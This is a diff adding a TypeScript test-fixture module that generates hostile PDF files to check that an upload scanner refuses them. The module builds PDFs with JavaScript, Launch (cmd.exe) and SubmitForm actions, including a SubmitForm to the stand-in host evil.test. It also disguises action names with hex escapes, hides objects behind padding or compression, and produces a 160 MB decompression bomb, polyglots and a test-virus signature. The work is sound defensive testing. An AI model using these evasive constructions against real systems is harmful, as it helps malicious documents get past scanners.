@@ -1,0 +1,108 @@
+import { deflateSync } from 'node:zlib';
+import type { Random } from '../../db/seed/random.ts';
+import { signature } from '../local-clamd.ts';
+import { type Harmless, type MakeHostileFile, noise } from './hostile-file.ts';
+
+/** Kept byte for byte, and handed out as nothing but a PDF. */
+const shownOnly: Harmless = (_kept, { mediaType, fileName }) =>
+  mediaType === 'application/pdf' && fileName.endsWith('.pdf');
+
+export const pdf = (random: Random, ...parts: readonly (string | Buffer)[]): Buffer =>
+  Buffer.concat(
+    [
+      `%PDF-1.7\n%${noise(random, 8).toString('hex')}\n1 0 obj << /Type /Catalog >> endobj\n`,
+      ...parts,
+      '\n%%EOF\n',
+    ].map((part) => Buffer.from(part as string, 'latin1')),
+  );
+
+/** A name of PDF with some of its letters written as numbers. */
+const spelt = (random: Random, name: string): string =>
+  [...name].map((letter) => (random.chance(0.3) ? `#${letter.charCodeAt(0).toString(16)}` : letter)).join('');
+
+const deeds = [
+  'S /JavaScript /JS (app.alert(1))',
+  'S /Launch /F (cmd.exe)',
+  'Type /EmbeddedFile',
+  'Subtype /RichMedia',
+  'S /SubmitForm /F (http://evil.test)',
+  'S /ImportData /F (x.fdf)',
+];
+
+/** A PDF that does something: plainly, spelt otherwise, hidden in a stream, or packed. */
+export const activePdf: MakeHostileFile = (random) => {
+  const deed = random.pick(deeds).replace(/\/(\w+)/, (_, name: string) => `/${spelt(random, name)}`);
+  const object = `7 0 obj << /${deed} >> endobj`;
+  const packed = Buffer.concat([
+    Buffer.from('3 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >> stream\n'),
+    deflateSync(`7 0 << /${deed} >>`),
+    Buffer.from('\nendstream'),
+  ]);
+  const part = random.pick([object, `stream\n${object}\nendstream`, packed]);
+  const padding = ' '.repeat(random.between(0, 70_000));
+  return {
+    what: `PDF with ${deed}`,
+    fileName: 'letter.pdf',
+    bytes: pdf(random, padding, part),
+    refused: ['file_active'],
+  };
+};
+
+/** Objects that cannot be looked at, or unpack to fill a memory. */
+export const closedPdf: MakeHostileFile = (random) => {
+  const isBomb = random.chance(0.3);
+  const filter = isBomb
+    ? '/FlateDecode'
+    : random.pick(['/LZWDecode', '[/ASCII85Decode /FlateDecode]', '/Crypt']);
+  const bytes = pdf(
+    random,
+    `3 0 obj << /Type /ObjStm /N 1 /First 4 /Filter ${filter} >> stream\n`,
+    isBomb ? bomb() : noise(random, 60),
+    '\nendstream',
+  );
+  return {
+    what: `PDF packed by ${filter}`,
+    fileName: 'packed.pdf',
+    bytes,
+    refused: ['file_locked', 'file_unreadable'],
+  };
+};
+
+let packedBomb: Buffer | undefined;
+const bomb = (): Buffer => {
+  packedBomb ??= deflateSync(Buffer.alloc(160 * 1024 * 1024, 0x20));
+  return packedBomb;
+};
+
+/** A PDF that another reader takes for an archive or a page, or with a virus in it. */
+export const pdfAndMore: MakeHostileFile = (random) => {
+  const [what, more] = random.pick([
+    ['PDF and ZIP', `PK\x03\x04${noise(random, 40).toString('latin1')}`],
+    ['PDF and page', '<html><script>alert(1)</script></html>'],
+    ['PDF with the test virus', `%${signature}`],
+  ] as const);
+  return {
+    what,
+    fileName: 'paper.pdf',
+    bytes: pdf(random, more),
+    // The scanner holds back what nobody opens.
+    refused: what === 'PDF with the test virus' ? ['held'] : [],
+    ...(what === 'PDF with the test virus' ? {} : { harmless: shownOnly }),
+  };
+};
+
+/** A PDF whose line broke, or that begins as something else. */
+export const brokenPdf: MakeHostileFile = (random) => {
+  const whole = pdf(random, ' '.repeat(random.between(3000, 9000)));
+  const isCut = random.chance(0.5);
+  const before = random.pick(['GIF89a/*', '<!doctype html>', 'MZ\x90\0\x03']);
+  return {
+    what: isCut ? 'cut PDF' : `PDF behind ${before.slice(0, 5)}`,
+    fileName: 'paper.pdf',
+    bytes: isCut
+      ? whole.subarray(0, random.between(5, whole.length - 2048))
+      : Buffer.concat([Buffer.from(before), whole]),
+    refused: ['file_unreadable', 'file_content_mismatch'],
+    ...(isCut ? {} : { harmless: shownOnly }),
+  };
+};
